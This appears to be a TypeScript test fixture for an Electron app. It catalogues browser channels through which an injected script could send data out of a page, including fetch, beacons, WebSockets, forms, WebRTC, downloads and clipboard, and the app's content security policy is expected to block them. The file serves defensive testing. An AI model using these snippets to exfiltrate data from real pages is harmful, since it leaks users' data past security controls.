/*
 * Ways in which a page could send data out of its window. Each attempt runs in the page like an injected
 * script. It may throw or never resolve, because the tests only check whether data arrives at the target.
 */

export interface ExfiltrationTarget {
  readonly url: string;
  readonly udp: number;
  readonly tcp: number;
  readonly rows: string;
}

type Attempts = Readonly<Record<string, (target: ExfiltrationTarget) => unknown>>;

/** Attempts with network requests. The content security policy must block them in both shells. */
export const networkAttempts: Attempts = {
  fetch: ({ url: to, rows }) => fetch(to, { method: 'POST', body: rows, mode: 'no-cors' }),
  'fetch that outlives the page': ({ url: to, rows }) =>
    fetch(to, { method: 'POST', body: rows, mode: 'no-cors', keepalive: true }),
  XMLHttpRequest: ({ url: to, rows }) => {
    const request = new XMLHttpRequest();
    request.open('POST', to);
    request.send(rows);
  },
  WebSocket: ({ url: to, rows }) => {
    const socket = new WebSocket(to.replace('http', 'ws'));
    socket.onopen = () => socket.send(rows);
  },
  EventSource: ({ url: to, rows }) => void new EventSource(`${to}?${rows}`),
  sendBeacon: ({ url: to, rows }) => navigator.sendBeacon(to, rows),
  'an image': ({ url: to, rows }) => void (new Image().src = `${to}?${rows}`),
  'a font': async ({ url: to }) => {
    const font = new FontFace('out', `url(${to}font.woff2)`);
    await font.load();
  },
  'a style sheet': ({ url: to }) =>
    void document.head.append(
      Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${to}a.css` }),
    ),
  'prefetch, preload, preconnect, dns-prefetch': ({ url: to }) => {
    for (const rel of [
      'prefetch',
      'preload',
      'modulepreload',
      'preconnect',
      'dns-prefetch',
      'prerender',
      'icon',
    ])
      document.head.append(Object.assign(document.createElement('link'), { rel, href: to, as: 'fetch' }));
  },
  'a media element': ({ url: to }) =>
    void document.body.append(Object.assign(document.createElement('video'), { src: to, autoplay: true })),
  'a frame': ({ url: to }) =>
    void document.body.append(Object.assign(document.createElement('iframe'), { src: to })),
  'an object and an embed': ({ url: to }) => {
    document.body.append(Object.assign(document.createElement('object'), { data: to }));
    document.body.append(Object.assign(document.createElement('embed'), { src: to }));
  },
  'a form': ({ url: to, rows }) => {
    const form = Object.assign(document.createElement('form'), { action: to, method: 'post' });
    form.append(Object.assign(document.createElement('input'), { name: 'rows', value: rows }));
    document.body.append(form);
    form.submit();
  },
  'a ping': ({ url: to }) => {
    const anchor = Object.assign(document.createElement('a'), { href: location.href, ping: to });
    document.body.append(anchor);
    anchor.click();
  },
  'a worker': ({ url: to }) => {
    const code = `fetch(${JSON.stringify(to)})`;
    void new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  },
};

/** Attempts that use features that ordinary browsers allow. The Electron window must block these attempts. */
export const browserAttempts: Attempts = {
  WebTransport: ({ tcp: port }) => void new WebTransport(`https://127.0.0.1:${port}/`),
  'WebRTC to a STUN server': async ({ udp: port }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    peer.createDataChannel('rows');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 700));
  },
  'WebRTC to a TURN server over TCP': async ({ tcp: port }) => {
    const urls = `turn:127.0.0.1:${port}?transport=tcp`;
    const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'a', credential: 'b' }] });
    peer.createDataChannel('rows');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 700));
  },
  'a service worker': () => navigator.serviceWorker.register('sw.js'),
  'a navigation': ({ url: to, rows }) => void (location.href = `${to}?${rows}`),
  'a window': ({ url: to, rows }) => void window.open(`${to}?${rows}`),
  'a download of a blob': ({ rows }) => {
    const href = URL.createObjectURL(new Blob([rows]));
    const anchor = Object.assign(document.createElement('a'), { href, download: 'rows.csv' });
    document.body.append(anchor);
    anchor.click();
  },
  'a download of a data address': ({ rows }) => {
    const href = `data:text/csv,${encodeURIComponent(rows)}`;
    const anchor = Object.assign(document.createElement('a'), { href, download: 'rows.csv' });
    document.body.append(anchor);
    anchor.click();
  },
  'a download of a page of the app': () => {
    const anchor = Object.assign(document.createElement('a'), { href: '/index.html', download: 'page.html' });
    document.body.append(anchor);
    anchor.click();
  },
  'the file picker': async ({ rows }) => {
    const pick: unknown = Reflect.get(window, 'showSaveFilePicker');
    if (typeof pick !== 'function') throw new Error('the browser has no file picker');
    const handle: unknown = await Reflect.apply(pick, window, []);
    throw new Error(`the file picker opened: ${String(handle)} ${rows.length}`);
  },
  'the origin’s own file system': async () => {
    const root = await navigator.storage.getDirectory();
    await root.getFileHandle('rows', { create: true });
  },
  'the asynchronous clipboard': ({ rows }) => navigator.clipboard.writeText(rows),
  'a share sheet': ({ rows }) => navigator.share({ text: rows }),
  'a notification': ({ rows }) => void new Notification(rows),
  print: () => window.print(),
  'a protocol handler': ({ url: to }) => navigator.registerProtocolHandler('web+rows', `${to}%s`),
  'a mail link': ({ rows }) => void (location.href = `mailto:a@b.example?body=${rows}`),
  'view-source': () => void (location.href = 'view-source:app://roundwatch/'),
};
